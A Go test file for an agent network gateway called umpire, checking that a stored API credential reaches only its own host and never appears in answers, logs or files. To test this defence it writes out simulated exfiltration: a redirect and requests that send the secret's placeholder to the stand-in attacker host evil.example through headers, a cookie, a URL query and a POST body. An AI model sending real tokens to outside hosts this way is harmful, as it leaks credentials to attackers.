package gateway

import (
	"bytes"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/umpire-dev/umpire/internal/audit"
	"github.com/umpire-dev/umpire/internal/secret"
)

const credential = "kept-from-agents-4711"

type logBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *logBuffer) Write(b []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(b)
}

func (l *logBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// A secret reaches its own host and nothing else: no other host, no answer, and nothing
// that umpire keeps, logs or tells.
func TestSecretReachesItsHostOnly(t *testing.T) {
	file := filepath.Join(t.TempDir(), "secrets")
	var log logBuffer
	var seen sync.Map // host to what it was sent
	s := newSecured(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		host, _, _ := strings.Cut(r.Host, ":")
		body, _ := io.ReadAll(r.Body)
		seen.Store(host+r.URL.Path, fmt.Sprint(r.Header, r.URL, string(body)))
		w.Header().Set("Echo", r.Header.Get("Authorization"))
		w.Header().Set("Location", "https://evil.example/?t="+r.Header.Get("Authorization"))
		fmt.Fprint(w, "you sent ", r.Header)
	}), "rules:\n  - allow: network(*:*)\n  - ask: network(GET */asked)\n", func(o *Options, port string) {
		if err := os.WriteFile(file, []byte("version: 1\nsecrets:\n  - {name: api, env: API_TOKEN, hosts: ['api.example:"+port+"'], value: "+credential+"}\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		var err error
		if o.Secrets, err = secret.Load(t.Context(), file, bytes.Repeat([]byte("k"), 32)); err != nil {
			t.Fatal(err)
		}
		o.Log = slog.New(slog.NewJSONHandler(&log, &slog.HandlerOptions{Level: slog.LevelDebug}))
		o.Intercept, _ = ParseHosts([]string{"evil.example"})
	}, nil)
	var answers strings.Builder
	status, own := s.call("agent", "GET", "/api/secrets?session=s1", nil)
	fmt.Fprint(&answers, own)
	list := own["secrets"].([]any)
	placeholder, _ := list[0].(map[string]any)["placeholder"].(string)
	if status != 200 || len(list) != 1 || !strings.HasPrefix(placeholder, "umpire:api:") {
		t.Fatalf("%d %v", status, own)
	}
	c := s.client()
	c.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	send := func(host, path string, header http.Header) got {
		r, _ := s.do(c, "GET", host, path, header)
		answers.WriteString(fmt.Sprint(r))
		return r
	}
	bearer := http.Header{"Authorization": {"Bearer " + placeholder}}
	basic := http.Header{"Authorization": {"Basic " + base64.StdEncoding.EncodeToString([]byte("x:"+placeholder))}}
	for path, header := range map[string]http.Header{"/bearer": bearer, "/basic": basic} {
		if r := send("api.example", path, header); r.status != 200 || !strings.Contains(r.body, "***") || strings.Contains(r.body, credential) {
			t.Errorf("%s: %+v", path, r)
		}
		sent, _ := seen.Load("api.example" + path)
		if text := fmt.Sprint(sent); !strings.Contains(text, credential) && !strings.Contains(text, base64.StdEncoding.EncodeToString([]byte("x:"+credential))) || strings.Contains(text, placeholder) {
			t.Errorf("%s: the server was sent %v", path, sent)
		}
	}
	for name, r := range map[string]got{
		"another host":        send("evil.example", "/host", bearer),
		"another host, basic": send("evil.example", "/host", basic),
		"a cookie":            send("api.example", "/cookie", http.Header{"Cookie": {"t=" + placeholder}}),
		"the address":         send("api.example", "/x?t="+placeholder, nil),
		"a question":          send("evil.example", "/asked", bearer), // nobody is asked
	} {
		if r.status != 403 || !strings.Contains(r.body, "placeholder of the secret api") {
			t.Errorf("%s: %+v", name, r)
		}
	}
	// What agents write about their environment goes out as they see it.
	req, _ := http.NewRequestWithContext(t.Context(), "POST", "https://evil.example:"+s.port()+"/body", strings.NewReader("env: "+placeholder))
	if resp, err := c.Do(req); err != nil || resp.StatusCode != 200 {
		t.Errorf("a body: %v", err)
	} else {
		resp.Body.Close()
	}
	o := &out{world: s.world}
	done := make(chan got, 1)
	go func() { done <- send("api.example", "/asked", bearer) }()
	q := o.waits(1)[0]
	fmt.Fprint(&answers, q)
	o.answer(q.ID, true, "")
	if r := <-done; r.status != 200 {
		t.Errorf("%+v", r)
	}
	if status, _ := s.call("agent", "GET", "/api/secrets?session="+strings.Repeat("s", 201), nil); status != 400 {
		t.Errorf("status is %d, want %d", status, 400)
	}
	if _, other := s.call("other", "GET", "/api/secrets?session=s1", nil); strings.Contains(fmt.Sprint(other), placeholder) {
		t.Error("another agent has the same placeholder")
	}
	for _, path := range []string{"/api/queue", "/api/history", "/api/audit?limit=100", "/api/config", "/api/rules", "/metrics"} {
		_, said := s.call("admin", "GET", path, nil)
		fmt.Fprint(&answers, said)
	}
	if text := answers.String(); strings.Contains(text, credential) || !strings.Contains(text, "umpire_proxy_secrets_misused_total 5") {
		t.Error("an answer has the secret, or the alarm is not counted")
	}
	n := 0
	for rec, err := range audit.Read(s.g.audit, audit.Query{Rule: ruleMisuse}) {
		if err != nil || rec.Effect != "deny" || rec.Principal.Session != "s1" {
			t.Errorf("%+v, %v", rec, err)
		}
		n++
	}
	if n != 5 || strings.Count(log.String(), "must not go") != 5 {
		t.Errorf("%d alarms are recorded; the log:\n%s", n, log.String())
	}
	seen.Range(func(host, sent any) bool {
		if strings.HasPrefix(host.(string), "evil.example") && strings.Contains(sent.(string), credential) {
			t.Errorf("%s was sent %s", host, sent)
		}
		return true
	})
	// Every file that umpire writes, and its log.
	encoded := base64.StdEncoding.EncodeToString([]byte("x:" + credential))
	for _, text := range []string{credential, encoded} {
		if strings.Contains(log.String(), text) {
			t.Errorf("the log has %s", text)
		}
	}
	files := 0
	err := filepath.WalkDir(filepath.Dir(s.policy), func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(path)
		if errors.Is(err, fs.ErrNotExist) { // it was to replace another one, and has
			return nil
		}
		if files++; bytes.Contains(b, []byte(credential)) || bytes.Contains(b, []byte(encoded)) {
			t.Errorf("%s has the secret", path)
		}
		return err
	})
	if err != nil || files < 3 {
		t.Errorf("%d files, %v", files, err)
	}
}
